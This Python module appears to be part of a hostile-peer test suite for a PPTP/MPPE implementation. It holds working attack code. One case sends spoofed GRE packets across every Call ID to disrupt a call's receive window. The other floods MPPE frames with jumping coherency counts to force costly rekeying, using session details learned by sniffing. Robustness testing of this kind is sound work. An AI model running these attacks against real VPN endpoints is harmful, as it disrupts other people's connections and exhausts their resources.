"""Data-plane cases of hostile_peer.py (issue 19 items 4 and 5), kept in their own module.

  gre-spray       blind GRE spray: one spoofed packet per Call ID (1..65535) from the address
                  of the peer whose GRE is seen on --iface going to SERVER, with a sequence
                  number --jump (default 4000, under gre_max_jump 4096) ahead of that peer's
                  current one and a harmless LCP Discard-Request inside (RFC 1661 §5.9). Run in
                  the client's namespace it attacks the server's receive window for the
                  client's call; run in the server's namespace with SERVER = the client's
                  address, the client's window (both directions have the same window).
  mppe-key-flood  MPPE frames (RFC 3078 §3.1 header: A | D | 12-bit coherency count, 60 random
                  octets) on the call seen on --iface, with the next GRE sequence numbers (so
                  the window delivers them in order) and each coherency count 2,047 ahead of
                  the previous one (sent twice: a copy that was refused is tried again), at
                  --rate packets/s for --wait seconds: 2,047 key changes per packet that the
                  receiver must do before it can tell garbage (mppe.hpp kMppeMaxStatelessJump).
The sequence number and Call ID are learned by watching the peer's own GRE (as the other live
cases in hostile_peer.py do), so the outcome does not depend on guessing them."""
import os, random, socket, struct, time


def _lcp_discard_request():
    # PPP address/control, protocol 0xC021 (LCP), Code 11 Discard-Request, Identifier, Length 8,
    # Magic-Number 0 (RFC 1661 §5.9: "MUST silently discard").
    return b"\xff\x03\xc0\x21" + struct.pack("!BBHI", 11, 0x5A, 8, 0)


def gre_spray(a):
    from hostile_peer import watch_client_gre
    from pptp_wire import gre_packet
    seen = watch_client_gre(a.iface, a.server, a.wait)
    if seen is None:
        print(f"gre-spray: saw no GRE data packet to {a.server} on {a.iface}")
        return 1
    call_id, seq, _ = seen
    target = (seq + a.jump) & 0xFFFFFFFF
    payload = _lcp_discard_request()
    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, 47)
    start = time.monotonic()
    sent = 0
    for cid in range(1, 65536):
        while True:
            try:
                r.sendto(gre_packet(cid, target, payload), (a.server, 0))
                break
            except BlockingIOError:
                time.sleep(0.001)
            except OSError as e:  # ENOBUFS under a burst: wait and retry the same packet
                if e.errno != 105:
                    raise
                time.sleep(0.001)
        sent += 1
    took = time.monotonic() - start
    print(f"gre-spray: call {call_id} at sequence {seq} (to {a.server}); sent {sent} packets, one per Call ID, "
          f"sequence {target} ({a.jump} ahead), LCP Discard-Request inside, in {took:.1f} s")
    return 0


def mppe_key_flood(a):
    from hostile_peer import watch_client_gre
    from pptp_wire import gre_packet
    seen = watch_client_gre(a.iface, a.server, a.wait, True)
    if seen is None:
        print(f"mppe-key-flood: saw no MPPE data packet to {a.server} on {a.iface}")
        return 1
    call_id, seq, count = seen
    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, 47)
    rnd = random.Random(19)
    step = 1.0 / a.rate
    start = time.monotonic()
    sent = 0
    i = 0
    while time.monotonic() - start < a.wait:
        if i % 2 == 0:
            count = (count + 2047) & 0x0FFF
        hdr = 0x9000 | count  # A (flushed) | D (encrypted) | coherency count
        ppp = b"\xff\x03\x00\xfd" + struct.pack("!H", hdr) + rnd.randbytes(60)
        try:
            r.sendto(gre_packet(call_id, seq + 1 + i, ppp), (a.server, 0))
            sent += 1
        except OSError:
            pass
        i += 1
        ahead = start + i * step - time.monotonic()
        if ahead > 0.002:
            time.sleep(ahead)
    took = time.monotonic() - start
    print(f"mppe-key-flood: call {call_id} after sequence {seq}; sent {sent} MPPE packets 2,047 counts apart "
          f"in {took:.1f} s ({sent / took:.0f}/s)")
    return 0


CASES = {"gre-spray": gre_spray, "mppe-key-flood": mppe_key_flood}


def add_arguments(ap):
    ap.add_argument("--jump", type=int, default=4000)
    ap.add_argument("--rate", type=float, default=2666)
